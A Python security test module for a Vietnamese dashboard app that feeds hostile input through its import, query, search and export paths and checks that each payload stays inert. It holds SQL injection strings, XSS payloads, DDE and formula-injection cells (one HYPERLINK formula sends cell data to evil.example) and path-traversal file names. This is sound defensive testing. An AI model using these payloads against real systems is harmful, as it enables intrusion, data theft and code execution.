"""Hostile input through the real code paths, counted: `run_payloads(db_path)` (some 15–30 s on two cores) and, in
Chromium, `run_browser_payloads(db_path, server=..., browser=...)`. Both work on copies of the database; neither
mocks anything.

sql_injection   classic payloads as every URL parameter (ui._validate, ui.init_state under AppTest, the whole app),
                as the findings search (tests/findings_search.py and the page itself), as the bound value of
                every text parameter of queries/*.sql, in the cells and sheet names of an import, and in report text
html_script     <script>, event handlers, javascript: links and Markdown/LaTeX tricks in finding texts, team and
                leader names, units' names, sources and file names: stored as written, escaped by the helpers that
                build Markdown or HTML, and (in Chromium) shown as text with no script run
formula         formula-looking cells (= + - @ tab CR ＝…) in every export: table downloads (CSV, XLSX), the data
                export, the error and quarantine workbooks: text in the file, readable; negative numbers stay numbers
path_traversal  hostile upload names (../, C:\\, NUL, line breaks, 300 characters): recorded and offered as a safe
                base name, and no file appears anywhere
oversized       uploads past the limits, zip bombs (.xlsx, .docx), a tiny PDF that unpacks to megabytes of drawing
                instructions, a huge pasted text: refused (or cut) at once with a message in Vietnamese and English

Inert: no exception escapes, nothing in the database changes but the literal a load is meant to store, an app run
raises nothing, and the text comes back as given. Each payload through each path counts once as tried.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import functools
import io
import json
import re
import shutil
import tempfile
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

from par_dashboard.importing import reader, service, template
from par_dashboard.importing.template import Catalogue
from par_dashboard.paths import QUERIES_DIR, ROOT
from par_dashboard.security.untrusted import MAX_NAME_CHARS, formula_like, markdown_text, safe_file_name
from par_dashboard.store.db import Database
from par_dashboard.store.schema import CONTENT_TABLES
from par_dashboard.views import exports
from tests.hardening import environment
from tests.hardening.settings import EXPECTED

CLASSES = ("sql_injection", "html_script", "formula", "path_traversal", "oversized")

LONG = "x" * 100_000
_PWNED_FILES = (Path(tempfile.gettempdir()) / "par-pwned.csv", Path(tempfile.gettempdir()) / "par-pwned.duckdb")
SQL_PAYLOADS = (
    "' OR 1=1 --", "' OR '1'='1", "'; DROP TABLE score; --", "1; DELETE FROM finding", '" OR ""="', '" OR 1=1 --',
    "$1", "?", "$unit_id", ":unit_id", "%s", "{0}",
    "\u2019 OR 1=1 --", "\u02bc; DROP TABLE finding; --", "\uff07 OR 1=1 --", "\u201c OR \u201d\u201d=\u201d",
    "%", "_", "%%", "S63-P-%", "S63-_-___", "%' OR unit_id LIKE '%",
    "\\", "\\'; DROP TABLE score; --", "\\x27 OR 1=1",
    "1) UNION SELECT unit_id, name FROM admin_unit --", "'||(SELECT version())||'",
    f"'; COPY finding TO '{_PWNED_FILES[0]}'; --", f"'; ATTACH '{_PWNED_FILES[1]}' AS p; --",
    "'; INSTALL httpfs; LOAD httpfs; --", "/**/OR/**/1=1", "Robert'); DROP TABLE admin_unit;--", "NULL",
    "\x00", "a\x00'; DROP TABLE finding; --", LONG,
)
# One of each kind, for the paths that cost tens of milliseconds a run (every query, an app run): a quote and a
# comment, a stacked statement, a Unicode quote, placeholders, both LIKE wildcards, a backslash with a NUL.
BOUND_PAYLOADS = ("' OR 1=1 --", "'; DROP TABLE score; --", "\u2019 OR \u201d\u201d=\u201d", "$1 ? :unit_id", "%", "_",
                  "\\'\x00; DROP TABLE finding; --")
APP_PAYLOADS = (*BOUND_PAYLOADS, "1) UNION SELECT unit_id, name FROM admin_unit --", LONG[:4_000])  # a URL's length


# Each names where it was written (window.__pwned = that name), so a script that ran says where it came from.
def script_payloads(where: str) -> tuple[str, ...]:
    return (f"<script>window.__pwned='{where}'</script>",
            f"<img src=x onerror=\"window.__pwned='{where}'\">",
            f"<svg onload=\"window.__pwned='{where}'\"></svg>",
            f"[bấm vào đây](javascript:window.__pwned='{where}')",
            f"javascript:window.__pwned='{where}'",
            f"**đậm** _nghiêng_ $\\frac{{1}}{{2}}$ `mã` :red[đỏ] # {where}")


SCRIPT_MARK = "__pwned"
FORMULA_PAYLOADS = ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0bcmd|' /C calc'!A0",
                    "\uff0d1+1", "\uff20SUM(A1)", "=cmd|' /C notepad'!'A1'")
NAME_PAYLOADS = ("../../etc/passwd.xlsx", "..\\..\\x.csv", "/abs/path.xlsx", "C:\\Windows\\system32\\x.xlsx",
                 "a\x00b.xlsx", "a\nb.csv", "x" * 300 + ".xlsx", "....//....//x.xlsx", "%2e%2e%2fx.xlsx",
                 "<img src=x onerror=\"window.__pwned='name'\">.xlsx", "..", "", "~/.bashrc.csv", "con:ads.csv")
CONTROL = "zz-khong-co-gia-tri"  # a value that matches nothing: a payload must behave exactly like it

PROVINCE, PROVINCE_NAME, DISTRICT, YEAR = "S63-P-20", "Lạng Sơn", "S63-D-183", 2024
HOSTILE_ID = "HB-2024-'; DROP TABLE finding; --"
CHECK_USER, CHECK_PASSWORD = "kiem-thu-an-toan", "Kiểm-thử an toàn 2024!"  # an admin of a throw-away users file
HOSTILE_FILE = "../../<img src=x onerror=\"window.__pwned='file'\">\n kiem_tra.xlsx"


class _Tally:
    """Tried and inert per class, and what went wrong."""

    def __init__(self):
        self.figures = {c: {"tried": 0, "inert": 0} for c in CLASSES}
        self.failures: list[str] = []

    def check(self, cls: str, what: str, fn: Callable[..., str | None], *args) -> None:
        """Run one payload through one path: `fn(*args)` returns None when inert, else what was wrong."""
        self.figures[cls]["tried"] += 1
        try:
            problem = fn(*args)
        except Exception as exc:  # noqa: BLE001 - an exception escaping is exactly what is counted
            problem = f"raised {type(exc).__name__}: {str(exc)[:200]}"
        if problem:
            self.failures.append(f"{cls}: {what[:160]!r}: {problem}")
        else:
            self.figures[cls]["inert"] += 1

    def result(self) -> dict:
        return {**self.figures, "failures": self.failures}


def fingerprint(db: Database, tables=CONTENT_TABLES) -> dict[str, tuple]:
    """Rows and an order-free hash of every content table: equal fingerprints, equal content (a few ms a table)."""
    with db.cursor() as cur:
        return {t: cur.execute(f"SELECT count(*), sum(hash(x)::HUGEINT) FROM {t} x").fetchone()  # noqa: S608 - fixed names
                for t in tables}


def _changed(before: dict, after: dict) -> list[str]:
    return sorted(t for t in before if before[t] != after.get(t))


def _literal(text: str) -> str:
    """A cell as the importer keeps it: NFC, surrounding white space removed."""
    return unicodedata.normalize("NFC", text).strip()


# ------------------------------------------------------------------------------------------------ the hostile import

@dataclass
class Hostile:
    """What build_hostile_database wrote: the batch, the literals to find again, the unit names it changed."""

    batch_id: int | None
    status: str
    file_name: str
    texts: dict[str, str] = field(default_factory=dict)  # what -> literal expected in the database
    finding_texts: list[str] = field(default_factory=list)
    rejected_units: list[str] = field(default_factory=list)
    unit_names: dict[str, str] = field(default_factory=dict)  # unit id -> its new (hostile) name
    row_changes: dict[str, int] = field(default_factory=dict)  # table -> rows added by the load (changed tables only)


def hostile_rows() -> tuple[dict[str, list[dict]], dict[str, str], list[str], list[str]]:
    """A Lạng Sơn 2024 inspection in the template's shape, every free-text field hostile; findings one per payload
    (SQL, script, formula), and findings naming a unit by a payload (rejected: no such unit)."""
    texts = {"plan_number": script_payloads("plan_number")[1], "plan_issuer": script_payloads("plan_issuer")[0],
             "plan_title": FORMULA_PAYLOADS[1], "team_label": script_payloads("team")[1],
             "leader_name": script_payloads("leader")[0] + " ' OR 1=1 --", "leader_title": script_payloads("title")[5],
             "what_checked": script_payloads("checked")[2], "source": script_payloads("source")[3],
             "source_url": script_payloads("source_url")[4], "topic": "=1+1; DROP TABLE finding"}
    longest = template.SHEET_BY_KEY["findings"].column("text").max_chars  # the longest finding text the importer takes
    findings = [p[:longest] for p in SQL_PAYLOADS if "\x00" not in p]
    findings += [p for where in ("finding", "finding2") for p in script_payloads(where)] + list(FORMULA_PAYLOADS)
    findings = list({_literal(f): f for f in reversed(findings) if _literal(f)}.values())[::-1]  # one per stored text
    rejected_units = ["' OR 1=1 --", "<script>window.__pwned='unit'</script>", "=HYPERLINK(\"x\")"]
    plan_id = "HB-PLAN-' OR '1'='1"
    common = {"source": texts["source"], "source_url": texts["source_url"]}
    rows = {
        "plans": [{"plan_id": plan_id, "number": texts["plan_number"], "issued_on": "03/06/2024", "issuer": texts["plan_issuer"],
                   "province": PROVINCE_NAME, "year": YEAR, "title": texts["plan_title"], **common}],
        "inspections": [{"inspection_id": HOSTILE_ID, "plan_id": plan_id, "province": PROVINCE_NAME, "year": YEAR,
                         "team_label": texts["team_label"], "leader_name": texts["leader_name"],
                         "leader_title": texts["leader_title"], "started_on": "10/06/2024", "ended_on": "11/06/2024",
                         "announced_on": "12/06/2024", **common}],
        "inspection_units": [{"inspection_id": HOSTILE_ID, "unit_id": DISTRICT, "visited_on": "10/06/2024",
                              "what_checked": texts["what_checked"]}],
        "findings": [{"inspection_id": HOSTILE_ID, "unit_id": DISTRICT, "area": "A3", "kind": "Tồn tại, hạn chế",
                      "topic": texts["topic"], "text": text, "status": "Chưa khắc phục", "status_on": "11/06/2024", **common}
                     for text in findings]
                    + [{"inspection_id": HOSTILE_ID, "unit_name": name, "unit_province": PROVINCE_NAME, "area": "A1",
                        "kind": "Kết quả", "text": f"Phát hiện ở đơn vị {name}"} for name in rejected_units],
        # a real yearly value replacing a demo one: the indicators page lists its source
        "indicator_values": [{"unit_id": "S63-D-181", "indicator": "OPS_ONTIME_PCT", "year": YEAR, "period": "Y", "value": 97.5,
                              "inspection_id": HOSTILE_ID, **common}],
    }
    return rows, texts, findings, rejected_units


def build_hostile_database(src: Path, dst: Path, *, rename_units: bool = True) -> Hostile:
    """Copy `src` to `dst` and load the hostile file into it through the import service, as a user would (partial:
    the rows naming no real unit are set aside). Units' names do not come from uploads (the build reads them from
    data/): with `rename_units`, Lạng Sơn and Cao Lộc are renamed to script payloads directly in the copy."""
    shutil.copyfile(src, dst)
    rows, texts, findings, rejected_units = hostile_rows()
    db = Database(dst)
    try:
        with db.cursor() as cur:
            catalogue = Catalogue.from_db(cur)
        data = template.write_workbook(rows, lang="vi", catalogue=catalogue)
        before = fingerprint(db)
        report = service.load(db, data, HOSTILE_FILE, user=CHECK_USER, partial=True)
        after = fingerprint(db)
        hostile = Hostile(report.batch_id, report.status, report.file_name, texts, findings, rejected_units,
                          row_changes={t: after[t][0] - before[t][0] for t in _changed(before, after)})
        if rename_units:
            hostile.unit_names = {PROVINCE: script_payloads("province")[0], DISTRICT: script_payloads("district")[1]}
            with db.transaction("hardening: hostile unit names") as cur:
                for unit_id, name in hostile.unit_names.items():
                    cur.execute("UPDATE admin_unit SET name = $n, short_name = $n WHERE unit_id = $u", {"n": name, "u": unit_id})
    finally:
        db.close()
    return hostile


# ------------------------------------------------------------------------------------------------ sql_injection

_SAMPLE = {"unit_id": DISTRICT, "province_id": PROVINCE, "provinces": [PROVINCE], "units": [DISTRICT], "unit_ids": [DISTRICT],
           "province_ids": [PROVINCE], "year": YEAR, "year_from": 2020, "year_to": YEAR, "area": "TOTAL", "kind": "",
           "status": "", "indicator": "OPS_ONTIME_PCT", "level": "district", "structure": "S63", "family": "PAR_INDEX",
           "parent_id": "", "inspection_id": "LS-2024-CAOLOC", "number": "80/KH-BCĐCCHC", "period": "Y", "q": "caoloc",
           "limit": 20, "offset": 0, "on_date": dt.date(2024, 6, 17), "words": ["hoso"], "inspection_ids": ["LS-2024-CAOLOC"],
           "first_day": dt.date(2024, 6, 1), "last_day": dt.date(2024, 6, 30),
           "finding_id": "LS-2024-CAOLOC-R1", "as_of": dt.date(2024, 12, 31), "source_id": 1}
_NOT_TEXT = {"source_id", "year", "year_from", "year_to", "limit", "offset", "on_date", "first_day", "last_day", "as_of"}


def query_params(name: str) -> list[str]:
    return sorted(set(re.findall(r"\$([a-z_]+)", (QUERIES_DIR / f"{name}.sql").read_text(encoding="utf-8"))))


def _bound(params: list[str], value: str) -> dict:
    return {p: ([value] if isinstance(_SAMPLE[p], list) else value) if p not in _NOT_TEXT else _SAMPLE[p] for p in params}


def _queries(db: Database, tally: _Tally) -> None:
    """Every query with a text parameter, each payload bound to all its text parameters at once: the result must be
    the one of a value that matches nothing (no wildcard matched, no quote closed), and the database unchanged."""
    names = sorted(p.stem for p in QUERIES_DIR.glob("*.sql"))
    before = fingerprint(db)  # then each query's "after" is the next one's "before": read once, not twice
    for name in names:
        params = query_params(name)
        if not set(params) - _NOT_TEXT:
            continue
        if unknown := sorted(set(params) - set(_SAMPLE)):  # a new query's parameter: say so, and check the others
            tally.failures.append(f"sql_injection: queries/{name}.sql has parameters {unknown} that _SAMPLE gives no value")
            continue
        control = db.query(name, **_bound(params, CONTROL))
        for payload in BOUND_PAYLOADS:
            tally.check("sql_injection", f"queries/{name}.sql ← {payload}", _same_as_nothing, db, name, params, payload, control)
        if changed := _changed(before, after := fingerprint(db)):
            tally.failures.append(f"sql_injection: queries/{name}.sql changed tables {changed}")
        before = after


def _same_as_nothing(db: Database, name: str, params: list[str], payload: str, control) -> str | None:
    got = db.query(name, **_bound(params, payload))
    return None if got.equals(control) else f"{len(got)} rows where a value matching nothing gives {len(control)}"


def _url_values(tally: _Tally) -> None:
    """ui._validate, the function every URL parameter goes through: each payload is refused (ValueError)."""
    from par_dashboard.shell import ui

    for key in ui.FILTER_KEYS:
        for payload in SQL_PAYLOADS:
            def refused(key=key, payload=payload):
                try:
                    ui._validate(key, payload)
                except ValueError:
                    return None
                return "accepted as a valid value"
            tally.check("sql_injection", f"URL {key}={payload}", refused)


_PROBE = """
import streamlit as st
from par_dashboard.shell import ui
st.session_state["_hardening_notices"] = ui.init_state("")
"""


def _app_runs(db: Database, tally: _Tally, user: str) -> None:
    """Under AppTest: ui.init_state with every URL parameter set to the payload (all refused, the filters at their
    defaults), then the whole app (entry file and first page) with a few payloads: nothing raised, nothing changed."""
    from streamlit.testing.v1 import AppTest

    from par_dashboard.security import auth
    from par_dashboard.shell import login, ui

    before = fingerprint(db)
    for payload in APP_PAYLOADS:
        def init_state(payload=payload):
            at = AppTest.from_string(_PROBE, default_timeout=60)
            for key in ui.FILTER_KEYS:
                at.query_params[key] = payload
            at.run()
            if at.exception:
                return f"the run raised {at.exception[0].message[:200]}"
            wrong = {k: at.session_state[k] for k in ui.FILTER_KEYS if at.session_state[k] != ui.DEFAULTS[k]}
            if wrong or len(at.session_state["_hardening_notices"]) != len(ui.FILTER_KEYS):
                return f"filters taken from the URL: {wrong}"
            return None
        tally.check("sql_injection", f"AppTest init_state, every URL parameter = {payload}", init_state)
    for payload in ("\x00<script>window.__pwned='url'</script> [x](javascript:alert(1)) ' OR 1=1 --", LONG[:4_000]):
        def whole_app(payload=payload):
            at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
            at.session_state[login.SESSION_KEY] = auth.LoggedIn(user)
            for key in ui.FILTER_KEYS:
                at.query_params[key] = payload
            at.run()
            if at.exception:
                return f"the app raised {at.exception[0].message[:200]}"
            if not at.title:
                return "no page drawn"
            shown = " ".join(toast.value for toast in at.toast)
            if re.search(r"(?<!\\)<script|(?<!\\)\]\(javascript", shown):
                return "the URL value is shown unescaped in the notice (Markdown)"
            if len(shown) > 2_000:
                return f"a notice of {len(shown)} characters"
            return None
        tally.check("sql_injection", f"AppTest dashboard.py, every URL parameter = {payload}", whole_app)
    for payload in ("'; DROP TABLE score; --", "<script>window.__pwned='lang'</script>"):
        def login_page(payload=payload):
            at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
            at.query_params["lang"] = payload  # read by the login page before anything else
            at.run()
            return f"the login page raised {at.exception[0].message[:200]}" if at.exception else None
        tally.check("sql_injection", f"AppTest login page, lang = {payload}", login_page)
    if changed := _changed(before, fingerprint(db)):
        tally.failures.append(f"sql_injection: the app runs changed tables {changed}")


def _search(db: Database, tally: _Tally) -> None:
    """The findings search box (its folded words bound as a list to queries/finding_page_by_selection.sql): a payload
    finds nothing, or (when it has no letter or digit) filters nothing; the literal payload stored by the hostile
    load finds its own finding; and the rows are those tests/findings_search.py finds in Python."""
    from par_dashboard.views import inspections as insp
    from tests import findings_search

    selection = {"year": YEAR, "provinces": [PROVINCE], "units": [], "area": "TOTAL", "kind": "", "status": ""}
    rows = db.query("finding_page_by_selection", **selection, words=[], limit=None, offset=0)
    ours = rows[rows.inspection_id == HOSTILE_ID]
    for payload in (p[:20_000] for p in SQL_PAYLOADS):
        def search(payload=payload):
            found = db.query("finding_page_by_selection", **selection, words=insp.search_words(payload), limit=None, offset=0)
            if set(found.finding_id) != set(findings_search.search_findings(rows, payload).finding_id):
                return "the search in SQL and the search in Python found different rows"
            words = [w for w in payload.split() if re.sub(r"\W|_", "", w)]
            if not words:
                return None if len(found) == len(rows) else f"{len(found)} of {len(rows)} rows for a search without words"
            literal = _literal(payload)
            expected = set(ours[ours.text == literal].finding_id)
            if not expected <= set(found.finding_id):
                return "the finding holding this very text was not found"
            return None
        tally.check("sql_injection", f"findings search ← {payload}", search)


def _unit_search(db: Database, tally: _Tally) -> None:
    """The locality page's search box: units.search_variant, then queries/unit_search.sql with the folded text."""
    from par_dashboard.domain.units import search_variant

    for payload in SQL_PAYLOADS:
        def searched(payload=payload):
            found = db.query("unit_search", q=search_variant(payload), limit=30)
            return None if len(found) <= 30 else f"{len(found)} rows"
        tally.check("sql_injection", f"locality search box ← {payload}", searched)


def _inspections_page(tally: _Tally, user: str) -> None:
    """The inspections page itself under AppTest, the search box typed with payloads: no exception, a sentence."""
    from streamlit.testing.v1 import AppTest

    from par_dashboard.security import auth
    from par_dashboard.shell import login

    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    at.session_state[login.SESSION_KEY] = auth.LoggedIn(user)
    at.query_params["year"], at.query_params["province"] = str(YEAR), PROVINCE
    at.run()
    at.switch_page("pages/inspections.py")
    at.session_state["section"] = "findings"  # the search box is in the findings' section (one section a run)
    at.run()
    for payload in ("' OR 1=1 -- %", "<img src=x onerror=\"window.__pwned='search'\"> " + LONG[:5_000]):
        def typed(payload=payload):
            at.text_input(key="insp_search").set_value(payload).run()
            if at.exception:
                return f"the page raised {at.exception[0].message[:200]}"
            return None
        tally.check("sql_injection", f"inspections page search box ← {payload}", typed)


def _stored_literally(db: Database, hostile: Hostile, tally: _Tally) -> None:
    """The hostile load: each payload finding stored exactly as written, the rows naming no unit set aside with
    their text, every field text as written, and no table touched but the inspection tables and the sources."""
    if hostile.status != "partial":
        tally.failures.append(f"sql_injection: the hostile load ended {hostile.status}, not partial")
    # one plan, one inspection, its unit, a finding per payload, a real value replacing a demo one, their sources
    expected = {"inspection_plan": 1, "inspection": 1, "inspection_unit": 1, "finding": len(hostile.finding_texts),
                "indicator_value": 0}
    if {t: n for t, n in hostile.row_changes.items() if t != "source"} != expected or hostile.row_changes.get("source", 0) < 1:
        tally.failures.append(f"sql_injection: the hostile load changed {hostile.row_changes}, expected {expected} and sources")
    with db.cursor() as cur:
        stored = {r[0] for r in cur.execute("SELECT text FROM finding WHERE inspection_id = $i", {"i": HOSTILE_ID}).fetchall()}
        fields = cur.execute("""SELECT i.team_label, i.leader_name, i.leader_title, p.number, p.issuer, p.title, iu.what_checked,
                                       s.title, s.url
                                FROM inspection i JOIN inspection_plan p USING (plan_id) JOIN source s ON s.source_id = i.source_id
                                JOIN inspection_unit iu USING (inspection_id) WHERE inspection_id = $i""",
                             {"i": HOSTILE_ID}).fetchone()
        quarantined = " ".join(r[0] for r in cur.execute("SELECT data FROM import_quarantine WHERE batch_id = $b",
                                                          {"b": hostile.batch_id}).fetchall())
    for text in hostile.finding_texts:
        cls = ("formula" if text in FORMULA_PAYLOADS else "html_script" if SCRIPT_MARK in text or "**" in text
               else "sql_injection")
        tally.check(cls, f"import cell (finding text) ← {text}",
                    lambda text=text: None if _literal(text) in stored else "not stored as written")
    names = ("team_label", "leader_name", "leader_title", "plan_number", "plan_issuer", "plan_title", "what_checked",
             "source", "source_url")
    for name, value in zip(names, fields or [None] * len(names), strict=True):
        expected = _literal(hostile.texts[name])
        tally.check("html_script", f"import cell ({name}) ← {expected}",
                    lambda value=value, expected=expected: None if value == expected else f"stored as {value!r}")
    for name in hostile.rejected_units:
        tally.check("sql_injection", f"import cell (unit name) ← {name}",
                    lambda name=name: None if json.dumps(name, ensure_ascii=False)[1:-1] in quarantined
                    else "the row naming no unit was not set aside with its text")


def _bad_cells(db: Database, tally: _Tally) -> None:
    """Payloads in cells that must hold a number, a year, a code or a date, in sheet names and headers, and a NUL in
    a CSV: rejected (or ignored with a notice), the database unchanged."""
    before = fingerprint(db)
    bad = ("2024; DROP TABLE score", "1; DELETE FROM finding", "' OR 1=1 --", "=1+1")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Mã đơn vị", "Mã chỉ tiêu", "Năm", "Kỳ", "Giá trị"])
    writer.writerows([DISTRICT, "OPS_ONTIME_PCT", p, p, p] for p in bad)
    report = service.load(db, out.getvalue().encode(), "gia_tri_chi_tieu.csv", user=CHECK_USER)
    for row, payload in enumerate(bad, start=2):
        tally.check("sql_injection", f"import cells (year, period, value) ← {payload}",
                    lambda row=row: None if report.status == "rejected" and any(e.row == row for e in report.errors)
                    else f"status {report.status}, row not refused")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "'; DROP TABLE score; --"[:31]
    ws.append(["' OR 1=1 --", "<script>window.__pwned='header'</script>", "=1+1"])
    ws.append(["a", "b", "c"])
    buf = io.BytesIO()
    wb.save(buf)

    def sheet_names():
        report = service.validate(db, buf.getvalue(), "ten_trang.xlsx")
        said = " ".join(n.message_vi for n in report.notices) + " ".join(e.message_vi for e in report.errors)
        return None if report.status == "rejected" and said else f"status {report.status}"
    tally.check("sql_injection", "import sheet name and headers ← payloads", sheet_names)
    for payload in ("\x00", "a\x00'; DROP TABLE finding; --"):
        text = f"Mã đơn vị,Mã chỉ tiêu,Năm,Giá trị\n{DISTRICT},OPS_ONTIME_PCT,2024,{payload}\n".encode()
        tally.check("sql_injection", f"import CSV cell ← {payload}",
                    lambda text=text: None if service.load(db, text, "x.csv", user=CHECK_USER).status == "rejected"
                    else "a file with NUL bytes was not rejected")
    if changed := _changed(before, fingerprint(db)):
        tally.failures.append(f"sql_injection: rejected imports changed tables {changed}")


def _extractor(db: Database, tally: _Tally) -> None:
    """Report text with payloads in its sentences, through extract_text and the review's HTML: no exception, the
    text kept as written, every payload escaped in the highlighted HTML."""
    from par_dashboard.extract import extract_text, read_file, review
    from par_dashboard.importing.names import UnitResolver

    resolver = UnitResolver.from_db(db)
    base = ("Ngày 10/6/2024, Đoàn kiểm tra số 1 của UBND tỉnh Lạng Sơn do ông Nguyễn Văn An, Phó Giám đốc Sở Nội vụ "
            "làm Trưởng đoàn đã kiểm tra công tác cải cách hành chính tại huyện Cao Lộc. ")
    payloads = [p for p in SQL_PAYLOADS[:-1] if p.strip("\x00")] + list(script_payloads("report"))
    text = base + "".join(f"Tồn tại, hạn chế số {i}: {p} chưa được khắc phục.\n" for i, p in enumerate(payloads))
    draft = extract_text(text, resolver=resolver)
    shown = review.highlight_html(draft, "vi")
    for payload in payloads:
        def kept(payload=payload):
            if payload.replace("\x00", " ") not in draft["text"]:
                return "the text was changed"
            if "<" in payload and payload in shown:
                return "the payload reached the review HTML unescaped"
            return None
        tally.check("html_script" if SCRIPT_MARK in payload else "sql_injection", f"extract_text ← {payload}", kept)
    for payload in ("' OR 1=1 --", "<script>window.__pwned='docx'</script>"):
        tally.check("html_script" if SCRIPT_MARK in payload else "sql_injection", f"read_file(.docx) ← {payload}",
                    lambda payload=payload: None if payload in read_file("bao_cao.docx", _docx(base + payload))
                    else "the paragraph was not read as written")


def _docx(text: str) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


# ------------------------------------------------------------------------------------------------ html_script

def _markup(db: Database, hostile: Hostile, tally: _Tally) -> None:
    """The helpers that turn stored text into Markdown or HTML: the inspection summary (st.markdown), the locality's
    lineage sentences (st.markdown), the presenter deck (HTML): no payload in them unescaped."""
    from par_dashboard.views import inspections as insp
    from par_dashboard.views import locality

    visits = db.query("inspection_by_selection", year=YEAR, provinces=[PROVINCE], units=[])
    visit = visits[visits.inspection_id == HOSTILE_ID].iloc[0].to_dict()
    summary = insp.summary_markdown(visit, db.query("inspection_units_visited", inspection_id=HOSTILE_ID),
                                    db.query("finding_by_inspection", inspection_id=HOSTILE_ID),
                                    db.query("inspection_indicator_values", inspection_id=HOSTILE_ID), "vi")
    for what, text in [*hostile.texts.items(), *((f"finding {i}", t) for i, t in enumerate(hostile.finding_texts))]:
        if not re.search(r"[<>\[\]`*_$:]", text) or what in ("plan_title", "topic") or len(text) < 3:
            continue  # nothing Markdown would read, not in the summary, or too short to tell apart
        tally.check("html_script", f"inspection summary (Markdown) ← {what}: {text}", _escaped_in, summary, _literal(text))
    province = db.query("unit_by_id", unit_id=PROVINCE).iloc[0]
    lineage = db.query("unit_lineage", unit_id="S34-P-20")  # today's Lạng Sơn, formed from the old one
    target = db.query("unit_by_id", unit_id="S34-P-20").iloc[0]
    sentences = " ".join(locality.lineage_sentences(target, lineage, "vi"))
    tally.check("html_script", f"locality lineage sentence (Markdown) ← {province['short_name']}",
                _escaped_in, sentences, province["short_name"])


def _escaped_in(markdown: str, text: str) -> str | None:
    """`text` is in `markdown` escaped, and nowhere raw."""
    escaped = markdown_text(text)
    if escaped not in markdown:
        return "not in the Markdown as escaped text"
    return "also there unescaped" if text in markdown.replace(escaped, "") else None


def _deck(db_path: Path, hostile: Hostile, tally: _Tally) -> None:
    """The presenter deck of the hostile province: in its HTML (shown in an iframe, and downloadable) every name is
    escaped; in its PowerPoint file, a chart's categories named like formulas stay text in the chart's workbook."""
    from par_dashboard.views.present.build import build_deck
    from par_dashboard.views.present.exports import to_html, to_pptx

    db = Database(db_path)
    try:
        deck = build_deck(db.query, lang="vi", year=YEAR, province_id=PROVINCE)
    finally:
        db.close()
    page = to_html(deck).decode("utf-8")
    for unit_id, name in hostile.unit_names.items():
        tally.check("html_script", f"deck HTML ← name of {unit_id}: {name}",
                    lambda name=name: None if name not in page else "a unit's name in the deck's HTML unescaped")
    slide = next(s for s in deck.slides if s.chart is not None and s.chart.kind in ("bar", "stacked"))
    names = [p for p in FORMULA_PAYLOADS if "\r" not in p and "\t" not in p]  # what a chart's category can be
    slide.chart = dataclasses.replace(slide.chart, categories=names,
                                      series=[dataclasses.replace(x, values=[1.0] * len(names)) for x in slide.chart.series],
                                      highlight=None)
    with zipfile.ZipFile(io.BytesIO(to_pptx(dataclasses.replace(deck, slides=[slide])))) as z:
        books = [z.read(n) for n in z.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")]
    for payload in names:
        tally.check("formula", f"deck PowerPoint, a chart category ← {payload}",
                    lambda p=payload: _workbook_problems(books[0], [p], "the chart's workbook (text, no prefix)",
                                                         quote_prefix=False) if books else "no chart")


# ------------------------------------------------------------------------------------------------ formula

def _cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _cell_problem(cell, quote_prefix: bool) -> str | None:
    """A formula-looking text must be text, shown as typed (quotePrefix, or an added leading apostrophe, keeps
    Excel from making it a formula even when the cell is edited)."""
    value = cell.value
    if cell.data_type == "f":
        return f"{cell.coordinate} is a formula: {value!r}"
    if isinstance(value, str) and formula_like(value) and not (cell.data_type == "s" and (cell.quotePrefix or not quote_prefix)):
        return f"{cell.coordinate} {value!r} is text without quotePrefix"
    return None


@functools.lru_cache(maxsize=4)
def _read_book(data: bytes, quote_prefix: bool) -> tuple[tuple[str, ...], frozenset[str]]:
    """A workbook's formula problems and texts, read once: each payload is then looked for in what was read (a
    workbook parsed again for every payload was most of this check's time)."""
    found, problems = set(), []
    for cell in _cells(data):
        if problem := _cell_problem(cell, quote_prefix):
            problems.append(problem)
        if isinstance(cell.value, str):
            found.add(cell.value.removeprefix("'"))
    return tuple(problems), frozenset(found)


def _workbook_problems(data: bytes, expected: list[str], what: str, *, quote_prefix: bool = True) -> str | None:
    problems, found = _read_book(data, quote_prefix)
    missing = [e for e in expected if _literal(e) not in found and e not in found]
    if problems:
        return f"{what}: {problems[:3]}"
    if missing:
        return f"{what}: formula payloads not in the file: {missing[:3]}"
    return None


def _formulas(db: Database, hostile: Hostile, tally: _Tally) -> None:
    from par_dashboard.views import inspections as insp

    # table downloads (ui.downloads: exports.to_csv_bytes / to_xlsx_bytes), a page's own table with the hostile rows
    findings = db.query("finding_page_by_selection", words=[], limit=None, offset=0, year=YEAR, provinces=[PROVINCE], units=[], area="TOTAL", kind="", status="")
    table = insp.findings_table(findings[findings.inspection_id == HOSTILE_ID], "vi", with_province=False)
    table["Số âm"] = -1.5
    filters = {"Tìm": FORMULA_PAYLOADS[0], "Nguồn": FORMULA_PAYLOADS[2]}
    xlsx = exports.to_xlsx_bytes(table, title=FORMULA_PAYLOADS[1], filters=filters, lang="vi", demo=False,
                                 sources=[FORMULA_PAYLOADS[3]])
    rows = list(csv.reader(io.StringIO(exports.to_csv_bytes(table, "vi").decode("utf-8-sig")), delimiter=";"))
    column = rows[0].index("Nội dung")
    csv_texts = {r[column] for r in rows[1:]}
    negatives = [c for c in _cells(xlsx) if isinstance(c.value, (int, float)) and c.value < 0]
    for payload in FORMULA_PAYLOADS:
        tally.check("formula", f"CSV download ← {payload}",
                    lambda p=payload: None if "'" + _literal(p) in csv_texts else "not prefixed with an apostrophe")
        tally.check("formula", f"XLSX download ← {payload}",
